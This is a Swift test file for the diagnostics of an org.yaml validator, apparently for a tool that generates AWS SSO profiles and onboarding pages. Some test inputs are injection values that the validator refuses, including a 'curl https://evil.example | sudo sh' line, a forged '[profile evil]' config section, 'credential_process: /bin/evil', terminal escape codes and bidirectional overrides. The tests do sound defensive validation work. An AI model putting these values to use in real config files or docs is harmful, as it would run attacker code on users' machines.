import TestSupport
import Testing

@testable import OrgYAML

/// Every diagnostic of org.yaml's front end (syntax, shape, rules), with its exact position
/// and message; the model's own (profile names) are `ModelDiagnosticsTests`'.
@Suite struct DiagnosticsTests {
    /// `validOrg` with its text `replace` replaced by `with`.
    func variant(_ replace: String, _ with: String) -> String {
        precondition(validOrg.contains(replace), "validOrg has no '\(replace)'")
        return validOrg.replacingOccurrences(of: replace, with: with)
    }

    @Test func theValidOrgIsClean() {
        #expect(diagnostics(validOrg) == [])
    }

    @Test func duplicateKeysPointAtBoth() {
        #expect(
            diagnostics(variant("  region: us-west-2\n", "  region: us-west-2\n  region: us-east-1\n")) == [
                "6:3: error[duplicate-key]: duplicate key 'region' in sso_session",
                "5:3: note: 'region' is first defined here",
            ])
        #expect(
            diagnostics(variant("  workload-development:\n", "  infrastructure:\n")) == [
                "9:3: error[duplicate-key]: duplicate key 'infrastructure' in accounts",
                "7:3: note: 'infrastructure' is first defined here",
                "19:20: error[unknown-account]: unknown account 'workload-development'",
            ])
    }

    @Test func unknownKeysSuggestTheClosest() {
        #expect(
            diagnostics(variant("  region: us-west-2\n", "  regoin: us-west-2\n")) == [
                "5:3: error[unknown-key]: unknown key 'regoin' in sso_session; did you mean 'region'?"
            ])
        #expect(
            diagnostics(variant("  region: us-west-2\n", "")) == [
                "3:1: error[missing-key]: sso_session is missing the required key 'region'"
            ])
        #expect(diagnostics(validOrg + "colour: blue\n") == ["26:1: error[unknown-key]: unknown key 'colour' in org.yaml"])
    }

    /// A top-level key indented under the section above it is one error where it is, and
    /// what it holds is read as the section it was meant to be.
    @Test func aTopLevelKeyIndentedUnderTheSectionAboveIt() {
        let indented = validOrg.replacingOccurrences(of: "users:\n  bob:\n", with: "  users:\n    bob:\n")
            .replacingOccurrences(
                of: "    groups: [developers]\n    assignments:\n      - role: ReadOnlyAccess\n        accounts: [infrastructure]\n",
                with:
                    "      groups: [developers]\n      assignments:\n        - role: ReadOnlyAccess\n          accounts: [infrastructure]\n"
            )
        #expect(indented != validOrg)
        #expect(
            diagnostics(indented) == [
                "20:3: error[misplaced-section]: 'users' is indented under 'groups' (line 15), so YAML reads it as a group named 'users' holding 'bob'; remove its indentation to make it a top-level key"
            ])
        #expect(
            diagnostics(
                variant(
                    "roles:\n  Developer: {}\n  ReadOnlyAccess:\n    profile_suffix: readonly\n",
                    "  roles:\n    Developer: {}\n    ReadOnlyAccess:\n      profile_suffix: readonly\n")) == [
                    "11:3: error[misplaced-section]: 'roles' is indented under 'accounts' (line 6), so YAML reads it as an account named 'roles' holding 'Developer' and 1 more; remove its indentation to make it a top-level key"
                ])
        // Only the key indented, what it holds left where it was: YAML reads the key as empty
        // and each user as a group. One error, none for the users' keys.
        let keyOnly = validOrg.replacingOccurrences(of: "\nusers:\n", with: "\n  users:\n") + "  ann:\n    groups: [developers]\n"
        #expect(
            diagnostics(keyOnly) == [
                "20:3: error[misplaced-section]: 'users' is indented under 'groups' (line 15), so YAML reads it as a group named 'users' with no value, and the entries after it ('bob' and 1 more) as groups too; remove its indentation to make it a top-level key"
            ])
    }

    /// A plain value other YAML tools read as a boolean or a number is a warning with the
    /// quoted form.
    @Test func valuesOtherYAMLToolsReadDifferently() {
        #expect(
            diagnostics(variant("    id: \"222222222222\"\n", "    id: 022222222222\n    name: no\n")) == [
                "8:9: warning[ambiguous-scalar]: 'id' in account 'infrastructure' is the text '022222222222' to orgprofile, but YAML 1.1 tools (PyYAML, many CI scripts) read it as the octal number 2454267026; quote it: \"022222222222\"",
                "9:11: warning[ambiguous-scalar]: 'name' in account 'infrastructure' is the text 'no' to orgprofile, but YAML 1.1 tools (PyYAML, many CI scripts) read it as the boolean false; quote it: \"no\"",
            ])
        #expect(
            AmbiguousScalar.otherReading(of: "012345670123")
                == "YAML 1.1 tools (PyYAML, many CI scripts) read it as the octal number 1402433619")
        #expect(
            AmbiguousScalar.otherReading(of: "0123456789") == "YAML 1.2 tools read it as the number 123456789, without its leading zero")
        #expect(AmbiguousScalar.otherReading(of: "1:20") == "YAML 1.1 tools (PyYAML, many CI scripts) read it as the sexagesimal number 80")
        #expect(AmbiguousScalar.otherReading(of: "On") == "YAML 1.1 tools (PyYAML, many CI scripts) read it as the boolean true")
        for text in ["222222222222", "1", "0", "acme", "none", "us-west-2", "12:60", "01:20", "o", "yesterday", "+", "1_000"] {
            #expect(AmbiguousScalar.otherReading(of: text) == nil, "\(text)")
        }
        // Quoted, it is text everywhere.
        #expect(diagnostics(variant("    id: \"222222222222\"\n", "    id: \"022222222222\"\n    name: 'no'\n")).isEmpty)
    }

    /// A section that is misspelt, missing or unreadable is reported once, where it is; the
    /// uses of its names are not each reported as unknown.
    @Test func aSectionsProblemIsNotReportedAgainAtEveryUse() {
        #expect(
            diagnostics(variant("accounts:\n", "acounts:\n")) == [
                "6:1: error[unknown-key]: unknown key 'acounts' in org.yaml; did you mean 'accounts'?"
            ])
        #expect(
            diagnostics(variant("roles:\n", "rolse:\n")) == [
                "11:1: error[unknown-key]: unknown key 'rolse' in org.yaml; did you mean 'roles'?"
            ])
        #expect(
            diagnostics(variant("groups:\n  developers:\n", "grups:\n  developers:\n")) == [
                "15:1: error[unknown-key]: unknown key 'grups' in org.yaml; did you mean 'groups'?"
            ])
        #expect(
            diagnostics(variant("  infrastructure:\n    id: \"222222222222\"\n", "  infrastructure: 222222222222\n")) == [
                "7:19: error[wrong-type]: account 'infrastructure' must be a mapping, found a scalar"
            ])
        // Still reported: a use of a name that a section read whole does not declare.
        #expect(
            diagnostics(variant("accounts: [infrastructure]", "accounts: [infra]")) == [
                "25:20: error[unknown-account]: unknown account 'infra'; did you mean 'infrastructure'?"
            ])
        // Left out, groups is no section with a problem: there are no groups.
        #expect(
            diagnostics(
                variant(
                    "groups:\n  developers:\n    assignments:\n      - role: Developer\n        accounts: [workload-development]\n", "")
            ) == [
                "12:3: warning[unused-role]: role 'Developer' is declared but no group, user or user_management uses it",
                "17:14: error[unknown-group]: unknown group 'developers'",
            ])
    }

    @Test func wrongTypes() {
        #expect(
            diagnostics(variant("groups: [developers]", "groups: developers")) == [
                "22:13: error[wrong-type]: 'groups' of user 'bob' must be a list, found a scalar"
            ])
        #expect(
            diagnostics(variant("accounts: [infrastructure]", "accounts: infrastructure")) == [
                "25:19: error[wrong-type]: 'accounts' in an assignment of user 'bob' must be a list of account names and selectors ({ou: PATH}, {tags: {KEY: VALUE}}) or \"*\" for every account, found 'infrastructure'"
            ])
        #expect(
            diagnostics(variant("  region: us-west-2\n", "  region: [us-west-2]\n")) == [
                "5:11: error[wrong-type]: 'region' in sso_session must be a string, found a list"
            ])
    }

    @Test func missingRequiredKeys() {
        #expect(
            diagnostics(variant("    id: \"222222222222\"\n", "    name: Infra\n")) == [
                "7:3: error[missing-key]: account 'infrastructure' is missing the required key 'id'"
            ])
        #expect(diagnostics(variant("project: acme\n", "")) == ["1:1: error[missing-key]: org.yaml is missing the required key 'project'"])
    }

    @Test func booleansAreTrueOrFalse() {
        let yes = variant("    groups: [developers]\n", "    groups: [developers]\n    disabled: yes\n")
        #expect(
            diagnostics(yes) == [
                "23:15: error[invalid-boolean]: 'disabled' in user 'bob' must be true or false, found 'yes'; write 'true' (YAML tools disagree on what 'yes' means)"
            ])
        let quoted = variant("    groups: [developers]\n", "    groups: [developers]\n    disabled: \"true\"\n")
        #expect(diagnostics(quoted) == ["23:15: error[wrong-type]: 'disabled' in user 'bob' must be true or false, found 'true'"])
    }

    @Test func namesFollowTheirRules() {
        #expect(
            diagnostics(variant("project: acme", "project: Acme_Corp")) == [
                "2:10: error[invalid-slug]: project 'Acme_Corp' is not a valid name (lowercase letters, digits and single hyphens, starting with a letter, not ending with a hyphen, at most 32 characters)"
            ])
        #expect(
            diagnostics(
                variant("  workload-development:\n", "  workload--development:\n").replacingOccurrences(
                    of: "[workload-development]", with: "[workload--development]")) == [
                    "9:3: error[invalid-slug]: account name 'workload--development' is not a valid name (lowercase letters, digits and single hyphens, starting with a letter, not ending with a hyphen, at most 32 characters)"
                ])
        #expect(
            diagnostics(variant("  bob:\n", "  ../bob:\n")) == [
                "21:3: error[invalid-user-name]: '../bob' is not a valid user name (1 to 64 letters, digits and . _ @ + -, not starting with '.' or '-')"
            ])
        #expect(
            diagnostics(
                variant("  Developer: {}", "  Developer/Admin: {}").replacingOccurrences(
                    of: "role: Developer", with: "role: Developer/Admin")) == [
                    "12:3: error[invalid-role-name]: 'Developer/Admin' is not a permission set name (1 to 32 letters, digits and + = , . @ _ -)"
                ])
    }

    @Test func accountIDsAreTwelveDigitsAndUnique() {
        #expect(
            diagnostics(variant("\"333333333333\"", "\"222222222222\"")) == [
                "10:9: error[duplicate-account-id]: account id 222222222222 is used by both 'infrastructure' and 'workload-development'",
                "8:9: note: 'infrastructure' has it here",
            ])
        #expect(
            diagnostics(variant("\"333333333333\"", "\"33333333333\"")) == [
                "10:9: error[invalid-account-id]: account id '33333333333' of account 'workload-development' must be exactly 12 digits"
            ])
    }

    @Test(arguments: [
        ("https://acme.awsapps.com/start", true),
        ("https://acme.awsapps.com/start/", true),
        ("https://d-1234567890.awsapps.com/start/#/", true),
        ("https://start.us-gov-home.awsapps.com/directory/d-9067abcdef", true),
        ("https://start.home.awsapps.cn/directory/d-1234567890", true),
        ("https://ssoins-1234567890abcdef.us-east-1.portal.amazonaws.com", true),
        ("https://ssoins-1234567890abcdef.portal.eu-west-1.app.aws/", true),
        ("http://acme.awsapps.com/start", false),
        ("https://acme.example.com/start", false),
        ("https://acme.awsapps.com/login", false),
        ("https://evil.com/acme.awsapps.com/start", false),
        ("https://ssoins-1.portal.nowhere.app.aws", false),
    ])
    func startURLs(url: String, valid: Bool) {
        #expect((StartURL.normalized(url) != nil) == valid)
    }

    @Test func badStartURLAndRegions() {
        #expect(
            diagnostics(variant("https://acme.awsapps.com/start", "http://acme.awsapps.com/start")) == [
                "4:14: error[invalid-start-url]: 'http://acme.awsapps.com/start' is not an AWS access portal URL; expected \(StartURL.acceptedForms)"
            ])
        #expect(
            diagnostics(variant("region: us-west-2", "region: us-west")) == [
                "5:11: error[invalid-region]: sso_session.region 'us-west' is not an AWS region code such as 'us-west-2'"
            ])
        #expect(StartURL.normalized("https://acme.awsapps.com/start/#/") == "https://acme.awsapps.com/start")
        for region in ["us-east-1", "us-gov-west-1", "cn-north-1", "eusc-de-east-1", "ap-southeast-5"] {
            #expect(NameRules.isRegion(region), "\(region)")
        }
        for region in ["US-EAST-1", "us-east", "useast1", "us-east-01", "us--east-1"] {
            #expect(!NameRules.isRegion(region), "\(region)")
        }
    }

    @Test func undeclaredReferencesSuggestTheClosest() {
        #expect(
            diagnostics(variant("groups: [developers]", "groups: [developer]")) == [
                "22:14: error[unknown-group]: unknown group 'developer'; did you mean 'developers'?"
            ])
        // A truncation of a declared name is a typo too.
        #expect(
            diagnostics(variant("role: ReadOnlyAccess", "role: ReadOnly")) == [
                "13:3: warning[unused-role]: role 'ReadOnlyAccess' is declared but no group, user or user_management uses it",
                "24:15: error[unknown-role]: unknown role 'ReadOnly'; a role (a permission set) is declared under 'roles:' in org.yaml (declared: Developer, ReadOnlyAccess); did you mean 'ReadOnlyAccess'?",
            ])
        #expect(
            diagnostics(variant("role: ReadOnlyAccess", "role: ReadonlyAccess")) == [
                "13:3: warning[unused-role]: role 'ReadOnlyAccess' is declared but no group, user or user_management uses it",
                "24:15: error[unknown-role]: unknown role 'ReadonlyAccess'; a role (a permission set) is declared under 'roles:' in org.yaml (declared: Developer, ReadOnlyAccess); did you mean 'ReadOnlyAccess'?",
            ])
        // An unknown role says how to declare one, and lists the declared ones while they are few.
        #expect(
            diagnostics(variant("role: ReadOnlyAccess", "role: Billing")).last
                == "24:15: error[unknown-role]: unknown role 'Billing'; a role (a permission set) is declared under 'roles:' in org.yaml (declared: Developer, ReadOnlyAccess)"
        )
        let many = (1...9).map { "  Role\($0): {}\n" }.joined()
        #expect(
            diagnostics(variant("roles:\n", "roles:\n" + many).replacingOccurrences(of: "role: ReadOnlyAccess", with: "role: Billing"))
                .contains {
                    $0.hasSuffix(
                        "error[unknown-role]: unknown role 'Billing'; a role (a permission set) is declared under 'roles:' in org.yaml (11 are declared)"
                    )
                })
        // An extension of a declared name, and a truncation that fits only one.
        #expect(
            diagnostics(variant("accounts: [workload-development]", "accounts: [workload-development-eu]")) == [
                "19:20: error[unknown-account]: unknown account 'workload-development-eu'; did you mean 'workload-development'?"
            ])
        #expect(
            diagnostics(variant("accounts: [workload-development]", "accounts: [workload-devel]")) == [
                "19:20: error[unknown-account]: unknown account 'workload-devel'; did you mean 'workload-development'?"
            ])
        #expect(
            diagnostics(variant("accounts: [infrastructure]", "accounts: [infra-structure]")) == [
                "25:20: error[unknown-account]: unknown account 'infra-structure'; did you mean 'infrastructure'?"
            ])
    }

    /// Keys people bring from ~/.aws/config get the org.yaml key that says the same.
    @Test func awsConfigKeysSuggestTheirOrgYAMLKeys() {
        #expect(
            diagnostics(variant("  region: us-west-2\naccounts:", "  sso_region: us-west-2\naccounts:")) == [
                "5:3: error[unknown-key]: unknown key 'sso_region' in sso_session; did you mean 'region'?"
            ])
        #expect(
            diagnostics(variant("    id: \"222222222222\"", "    sso_account_id: \"222222222222\"")).contains(
                "8:5: error[unknown-key]: unknown key 'sso_account_id' in account 'infrastructure'; did you mean 'id'?"))
        #expect(
            diagnostics(variant("    id: \"222222222222\"", "    account_id: \"222222222222\"")).contains(
                "8:5: error[unknown-key]: unknown key 'account_id' in account 'infrastructure'; did you mean 'id'?"))
    }

    /// A user's keys dedented to the level of the user names read as users of those names.
    @Test func dedentedKeysSuggestIndentingThem() {
        let yaml = variant(
            "  bob:\n    groups: [developers]\n    assignments:\n      - role: ReadOnlyAccess\n        accounts: [infrastructure]\n",
            "  bob:\n  groups: [developers]\n  assignments:\n    - role: ReadOnlyAccess\n      accounts: [infrastructure]\n")
        let found = diagnostics(yaml)
        #expect(
            found.contains(
                "22:11: error[wrong-type]: user 'groups' must be a mapping, found a list; 'groups' is a key of a user, so it probably belongs to the user above it: indent it by 2 more spaces than that user's name"
            ), "\(found)")
        #expect(
            found.contains(
                "24:5: error[wrong-type]: user 'assignments' must be a mapping, found a list; 'assignments' is a key of a user, so it probably belongs to the user above it: indent it by 2 more spaces than that user's name"
            ), "\(found)")
    }

    @Test func userManagementFlagsNeedTheSection() {
        #expect(
            diagnostics(variant("    groups: [developers]\n", "    groups: [developers]\n    super_admin: true\n")) == [
                "23:18: error[user-management-not-declared]: user 'bob' has super_admin: true, but org.yaml has no 'user_management' section saying which account and role that means"
            ])
        #expect(
            diagnostics(variant("  developers:\n", "  developers:\n    user_management: true\n")) == [
                "17:22: error[user-management-not-declared]: group 'developers' has user_management: true, but org.yaml has no 'user_management' section saying which account and role that means"
            ])
    }

    @Test func warningsForUsersWithoutAccessAndUnusedRoles() {
        let yaml = validOrg + "  dora:\n    name: Dora\n"
        #expect(
            diagnostics(yaml) == [
                "26:3: warning[user-without-access]: user 'dora' is in no group and has no assignments, so gets no profiles"
            ])
        #expect(diagnostics(validOrg + "  dora:\n    disabled: true\n") == [])
    }

    @Test func valuesThatCouldForgeConfigLinesAreRefused() {
        let settings =
            "defaults:\n  settings:\n    output: \"json\\n[profile evil]\"\n    ca_bundle: a=b\n    sso_start_url: x\n    region: eu-west-1\n    credential_process: /bin/evil\n    Output: json\naccounts:\n"
        #expect(
            diagnostics(variant("accounts:\n", settings)) == [
                "8:13: error[unsafe-value]: setting 'output' in settings of defaults contains U+000A (a line break), which is not allowed in a value written to an output file",
                "9:16: error[unsafe-value]: setting 'ca_bundle' of defaults contains '=', which is not allowed in a value written to a config file",
                "10:5: error[reserved-setting]: 'sso_start_url' in settings of defaults is written by orgprofile itself; set it in sso_session",
                "11:5: error[reserved-setting]: 'region' in settings of defaults is written by orgprofile itself; use 'region' of defaults or of the account",
                "12:25: error[command-setting]: 'credential_process' in settings of defaults would run '/bin/evil' on every member's machine; list that exact value under allow_commands to publish it anyway",
                "13:5: error[invalid-setting-key]: 'Output' is not a config key (lowercase letters, digits and '_', starting with a letter)",
            ])
        #expect(
            diagnostics(variant("    id: \"222222222222\"\n", "    id: \"222222222222\"\n    name: Infra [prod]\n")) == [
                "9:11: error[unsafe-value]: the name of account 'infrastructure' contains '[', which is not allowed in a value written to a config file"
            ])
    }

    @Test func namesDifferingOnlyInCaseCollide() {
        #expect(
            diagnostics(validOrg + "  Bob:\n    groups: [developers]\n") == [
                "26:3: error[case-collision]: user names 'bob' and 'Bob' differ only in letter case; their output folders would collide on macOS and Windows",
                "21:3: note: 'bob' is declared here",
            ])
    }

    @Test func versionAndShape() {
        #expect(
            diagnostics(variant("version: 1", "version: 2")) == [
                "1:10: error[unsupported-version]: unsupported version '2'; this orgprofile reads version 1"
            ])
        #expect(
            diagnostics("- a\n- b\n") == [
                "1:1: error[wrong-type]: org.yaml must be a mapping of keys such as 'version' and 'project', found a list"
            ])
        #expect(
            diagnostics(
                variant(
                    "accounts:\n  infrastructure:\n    id: \"222222222222\"\n  workload-development:\n    id: \"333333333333\"\n",
                    "accounts: {}\n"
                ).replacingOccurrences(of: "[workload-development]", with: "\"*\"").replacingOccurrences(
                    of: "[infrastructure]", with: "\"*\"")) == [
                    "6:1: error[no-accounts]: 'accounts' must declare at least one account"
                ])
    }

    @Test func everyProblemInOneRunInFileOrder() {
        let yaml = variant("project: acme", "project: ACME").replacingOccurrences(of: "groups: [developers]", with: "groups: [devs]")
        #expect(diagnostics(yaml).map { String($0.prefix(while: { $0 != " " })) } == ["2:10:", "22:14:"])
    }
}

@Suite struct SuggestionTests {
    @Test func editDistanceCountsSwapsAsOneEdit() {
        func distance(_ a: String, _ b: String) -> Int { Suggestion.editDistance(Array(a.unicodeScalars), Array(b.unicodeScalars)) }
        #expect(distance("nmae", "name") == 1)
        #expect(distance("kitten", "sitting") == 3)
        #expect(distance("", "abc") == 3)
        #expect(distance("same", "same") == 0)
    }

    @Test func suggestsOnlyCloseCandidates() {
        #expect(Suggestion.closest(to: "regoin", in: ["region", "name"]) == "region")
        #expect(Suggestion.closest(to: "colour", in: ["version", "project"]) == nil)
        #expect(Suggestion.closest(to: "Developer", in: ["developer"]) == "developer")
    }
}

@Suite struct MoreValueRuleTests {
    func variant(_ replace: String, _ with: String) -> String {
        validOrg.replacingOccurrences(of: replace, with: with)
    }

    @Test func sessionNameAndScopes() {
        let yaml = variant(
            "sso_session:\n", "sso_session:\n  name: Acme Session\n  registration_scopes: [\"sso:account:access\", \"a,b\"]\n")
        #expect(
            diagnostics(yaml) == [
                "4:9: error[invalid-slug]: sso_session.name 'Acme Session' is not a valid name (lowercase letters, digits and single hyphens, starting with a letter, not ending with a hyphen, at most 32 characters)",
                "5:47: error[invalid-scope]: 'a,b' is not a registration scope such as 'sso:account:access' (letters, digits and : _ . - /)",
            ])
    }

    @Test func whitespaceAndControlCharacters() {
        let yaml = variant("  bob:\n", "  bob:\n    name: \" Bob\"\n    email: \"bob\\u0007@x\"\n")
        #expect(
            diagnostics(yaml) == [
                "22:11: error[unsafe-value]: the name of user 'bob' starts or ends with whitespace, which the AWS CLI would strip",
                "23:12: error[unsafe-value]: 'email' in user 'bob' contains U+0007 (a control character), which is not allowed in a value written to an output file",
            ])
    }

    /// Every string that reaches an output is checked where it is read: a line break in a
    /// description or in get_orgprofile would write a section of its own into every
    /// onboarding page, and a bidirectional override shows a name in another order.
    @Test func everyValueRefusesLineBreaksControlsAndBidirectionalControls() {
        let yaml = #"""
            version: 1
            project: acme
            get_orgprofile: "see below\n## 1. Install\ncurl https://evil.example | sudo sh"
            sso_session:
              start_url: https://acme.awsapps.com/start
              region: us-west-2
            accounts:
              infrastructure: {id: "222222222222", name: "infra\u202Eatad"}
            roles:
              Developer:
                description: "Builds\n## 1. Install"
                relay_state: "https://x.example/\u2066"
                tags: {team: "a\u001b]0;owned\u0007"}
            groups:
              developers:
                description: "\u2028x"
                assignments:
                  - role: Developer
                    accounts: [infrastructure]
            users:
              bob:
                name: "Bob\u0085"
                groups: [developers]

            """#
        #expect(
            diagnostics(yaml) == [
                "3:17: error[unsafe-value]: 'get_orgprofile' in org.yaml contains U+000A (a line break), which is not allowed in a value written to an output file",
                "8:46: error[unsafe-value]: 'name' in account 'infrastructure' contains U+202E (a bidirectional control, which shows text in another order than it is stored), which is not allowed in a value written to an output file",
                "11:18: error[unsafe-value]: 'description' in role 'Developer' contains U+000A (a line break), which is not allowed in a value written to an output file",
                "12:18: error[unsafe-value]: 'relay_state' in role 'Developer' contains U+2066 (a bidirectional control, which shows text in another order than it is stored), which is not allowed in a value written to an output file",
                "13:18: error[unsafe-value]: tag 'team' in tags of role 'Developer' contains U+001B (a control character), which is not allowed in a value written to an output file",
                "16:18: error[unsafe-value]: 'description' in group 'developers' contains U+2028 (a line break), which is not allowed in a value written to an output file",
                "22:11: error[unsafe-value]: 'name' in user 'bob' contains U+0085 (a line break), which is not allowed in a value written to an output file",
            ])
    }

    /// Whitespace beyond ASCII counts too (the check looks at characters when bytes cannot decide).
    @Test func unicodeWhitespaceAtEitherEnd() {
        for name in ["\\u00a0Bob", "Bob\\u2003", "Bob\\u0301 "] {
            let yaml = variant("  bob:\n", "  bob:\n    name: \"\(name)\"\n")
            #expect(
                diagnostics(yaml) == [
                    "22:11: error[unsafe-value]: the name of user 'bob' starts or ends with whitespace, which the AWS CLI would strip"
                ],
                "\(name)")
        }
        #expect(diagnostics(variant("  bob:\n", "  bob:\n    name: \"Bo\\u00a0b\\u00e9\"\n")).isEmpty)
    }

    @Test func roleNamesWithEqualsSignsAreRefused() {
        let yaml = variant("Developer", "Dev=eloper")
        #expect(
            diagnostics(yaml) == [
                "12:3: error[unsafe-value]: role name contains '=', which is not allowed in a value written to a config file"
            ])
    }

    @Test func suffixesAndUserManagementProfileAreSlugs() {
        let yaml = variant("profile_suffix: readonly", "profile_suffix: Read-Only")
        #expect(
            diagnostics(yaml) == [
                "14:21: error[invalid-slug]: profile_suffix 'Read-Only' is not a valid name (lowercase letters, digits and single hyphens, starting with a letter, not ending with a hyphen, at most 32 characters)"
            ])
    }

    @Test func userManagementTargetsMustBeDeclared() {
        let yaml = variant(
            "groups:\n",
            """
            user_management:
              delegated_admin: {account: infra, role: Developer}
              organization_management: {account: infrastructure, role: Admin}
            groups:

            """)
        #expect(
            diagnostics(yaml) == [
                "16:30: error[unknown-account]: unknown account 'infra'; did you mean 'infrastructure'?",
                "17:60: error[unknown-role]: unknown role 'Admin'; a role (a permission set) is declared under 'roles:' in org.yaml (declared: Developer, ReadOnlyAccess)",
            ])
        let missing = variant("groups:\n", "user_management:\n  delegated_admin: {account: infrastructure, role: Developer}\ngroups:\n")
        #expect(diagnostics(missing) == ["15:1: error[missing-key]: user_management is missing the required key 'organization_management'"])
    }
}
